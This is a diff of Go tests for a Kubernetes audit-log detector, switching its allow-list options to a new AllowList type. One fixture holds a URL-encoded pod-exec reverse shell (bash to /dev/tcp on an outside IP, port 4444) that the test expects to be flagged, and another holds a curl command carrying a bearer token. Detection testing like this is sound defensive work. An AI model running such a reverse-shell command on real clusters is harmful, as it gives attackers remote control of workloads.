@@ -205,8 +205,8 @@ func TestDetectionsFireAndDoNotFire(t *testing.T) {
 		{name: "D01 denied does not fire", events: []*audit.Event{tokenReq("alice", evo{dec: "forbid"})}, rule: "KGD01", want: 0},
 		{name: "D01 impersonating an allowed identity does not exempt", events: []*audit.Event{tokenReq("mallory", evo{imp: &audit.RawUser{Username: "system:kube-controller-manager"}})},
 			rule: "KGD01", want: 1, msg: "mallory (as system:kube-controller-manager)"},
-		{name: "D01 custom allow-list", opts: DetectOptions{TokenRequestAllow: []string{"alice"}}, events: []*audit.Event{tokenReq("alice", evo{})}, rule: "KGD01", want: 0},
-		{name: "D01 empty allow-list flags the kubelet", opts: DetectOptions{TokenRequestAllow: []string{}}, events: []*audit.Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 1},
+		{name: "D01 custom allow-list", opts: DetectOptions{TokenRequestAllow: Users("alice")}, events: []*audit.Event{tokenReq("alice", evo{})}, rule: "KGD01", want: 0},
+		{name: "D01 empty allow-list flags the kubelet", opts: DetectOptions{TokenRequestAllow: AllowList{}}, events: []*audit.Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 1},
 		{name: "D01 get on serviceaccounts is not a TokenRequest", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "serviceaccounts", ns: "apps", name: "b"})}, rule: "KGD01", want: 0},
 
 		// KGD02
@@ -258,7 +258,7 @@ func TestDetectionsFireAndDoNotFire(t *testing.T) {
 			rule: "KGD06", want: 1, sev: reports.High, msg: "token of pod apps/web-7d9f (ServiceAccount system:serviceaccount:apps:web, node node-1) used by client curl/8.5.0"},
 		{name: "D06 client-go controller UA does not fire", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "configmaps", ns: "apps", name: "c", ua: "web/v1.2 (linux/amd64) kubernetes/abc"}))}, rule: "KGD06", want: 0},
 		{name: "D06 curl without pod-name extra", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:web", verb: "get", res: "pods", ns: "apps", ua: "curl/8.5.0"})}, rule: "KGD06", want: 0},
-		{name: "D06 Go-http-client from an expected pod", opts: DetectOptions{PodGoClientAllow: []string{"apps/web-*"}},
+		{name: "D06 Go-http-client from an expected pod", opts: DetectOptions{PodGoClientAllow: AllowList{{Pod: "apps/web-*"}}},
 			events: []*audit.Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 0},
 		{name: "D06 Go-http-client from another pod", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 1},
 		{name: "D06 discovery burst", events: func() []*audit.Event {
@@ -285,7 +285,7 @@ func TestDetectionsFireAndDoNotFire(t *testing.T) {
 		{name: "D07 reverse shell", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.1%2F4444+0%3E%261"})},
 			rule: "KGD07", want: 1, sev: reports.High, msg: "[reverse shell]"},
 		{name: "D07 denied exec", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", dec: "forbid"})}, rule: "KGD07", want: 0},
-		{name: "D07 allow-listed caller", opts: DetectOptions{ExecAllow: []string{"alice"}}, events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web"})}, rule: "KGD07", want: 0},
+		{name: "D07 allow-listed caller", opts: DetectOptions{ExecAllow: Users("alice")}, events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web"})}, rule: "KGD07", want: 0},
 		{name: "D07 token in command is redacted", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web",
 			uri: "/x?command=curl&command=-H&command=Authorization%3A+Bearer+s3cr3tvalue&command=https%3A%2F%2Fkubernetes"})},
 			rule: "KGD07", want: 1, msg: "Authorization: Bearer <redacted>"},
